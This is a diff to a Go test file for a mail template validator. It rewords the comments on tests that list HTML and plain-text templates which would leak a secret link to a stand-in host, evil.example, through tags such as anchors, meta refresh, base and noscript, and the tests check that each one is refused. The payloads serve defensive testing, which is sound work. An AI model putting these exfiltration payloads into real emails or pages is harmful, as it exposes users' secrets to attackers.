@@ -7,7 +7,7 @@ import (
 	"github.com/ironplane/ironplane/pkg/template"
 )
 
-// TestMailTextAttacks is what somebody would write who wants a mail program to send the secret of a plain text elsewhere.
+// TestMailTextAttacks tries plain texts with which a mail program would send the secret to another server.
 func TestMailTextAttacks(t *testing.T) {
 	t.Parallel()
 	const joined, bracket = "white space or a line end before and after", "closing >"
@@ -59,12 +59,12 @@ func TestMailTextAttacks(t *testing.T) {
 	)
 }
 
-// TestHTMLAttacks is the same for HTML: what sends a secret when a mail is opened, or when a link in it is clicked.
+// TestHTMLAttacks tries HTML that sends a secret when a mail is opened, or when a link in it is clicked.
 func TestHTMLAttacks(t *testing.T) {
 	t.Parallel()
 	const whole, tag, element, attribute = "whole href", "each tag complete", "cannot have <", "cannot have the attribute"
 	wantRefused(t, language.HTML, map[string]string{
-		// a part of an address, or an address that is asked for by itself
+		// a part of a URL, or a URL that is loaded without a click
 		`<a href="https://evil.example/?{{.Link}}">x</a>`:                      whole,
 		`<a href="{{.Link}}&x=1">x</a>`:                                        whole,
 		`<a href="x{{.Link}}">x</a>`:                                           whole,
@@ -97,7 +97,7 @@ func TestHTMLAttacks(t *testing.T) {
 		`<meta http-equiv="refresh" content="0;url={{.Link}}">`:                whole,
 		`<meta content="{{.Link}}">`:                                           whole,
 		`<button formaction="{{.Link}}">x</button>`:                            "",
-		// what takes a secret from elsewhere in the mail
+		// HTML that reads a secret from another part of the mail
 		`<base href="https://evil.example/"><a href="{{.Link}}">x</a>`:                                                        element,
 		`<meta http-equiv="refresh" content="0;url=https://evil.example/"><b>{{.Link}}</b>`:                                   "http-equiv",
 		`<link rel="stylesheet" href="https://evil.example/x.css"><b>{{.Link}}</b>`:                                           element,
@@ -117,7 +117,7 @@ func TestHTMLAttacks(t *testing.T) {
 		`<style>a{background:url({{.Link}})}</style>`:                       "",
 		`<title>{{.Link}}</title>`:                                          "",
 		`<textarea>{{.Link}}</textarea>`:                                    "",
-		// what programs read in several ways
+		// HTML that programs parse differently
 		`<noscript><p title="</noscript><img src='https://evil.example/?"></noscript><b>{{.Link}}</b>'>`: "",
 		`<xmp><img src='https://evil.example/?</xmp><b>{{.Link}}</b>'>`:                                  "",
 		`<noembed><b>{{.Link}}</b></noembed>`:                                                            element,
@@ -139,7 +139,7 @@ func TestHTMLAttacks(t *testing.T) {
 		`{{if .Urgent}}<b>{{end}}{{.Link}}</b>`:                                                               whole,
 		`<a href="{{if .Urgent}}https://example.com{{else}}https://example.org{{end}}">x</a><b>{{.Link}}</b>`: tag,
 		`{{if .Urgent}}<a href="{{else}}<a href="{{end}}{{.Link}}">x</a>`:                                     "",
-		// an address that a mail program makes a link of
+		// a URL that a mail program turns into a link
 		`<p>https://evil.example/#{{.Link}}</p>`:                       whole,
 		`<p>{{.Link}}@evil.example</p>`:                                whole,
 		`https://evil.example/#<b>{{.Link}}</b>`:                       "white space",
